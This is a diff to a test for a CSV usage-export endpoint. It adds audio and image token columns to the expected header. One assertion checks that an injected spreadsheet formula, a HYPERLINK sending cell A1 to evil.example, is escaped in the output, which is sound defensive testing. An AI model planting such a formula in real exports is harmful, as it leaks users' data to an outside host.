@@ -396,7 +396,7 @@ describeEachDatabase("cockpit management API on $kind", (kind) => {
     expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
     const lines = csv.text.trim().split("\r\n");
     expect(lines[0]).toBe(
-      "created_at,id,app,grant_id,provider,model,endpoint,status,outcome,input_tokens,output_tokens,cache_read_tokens,cache_write_tokens,cache_write_1h_tokens,reasoning_tokens,cost_usd,cost_micros,estimated,latency_ms,ttfb_ms",
+      "created_at,id,app,grant_id,provider,model,endpoint,status,outcome,input_tokens,output_tokens,cache_read_tokens,cache_write_tokens,cache_write_1h_tokens,reasoning_tokens,input_audio_tokens,output_audio_tokens,input_image_tokens,output_image_tokens,cost_usd,cost_micros,estimated,latency_ms,ttfb_ms",
     );
     expect(lines).toHaveLength(1 + (await h.grants.db.usageEvent.count({ where: { userId: a.userId } })));
     expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
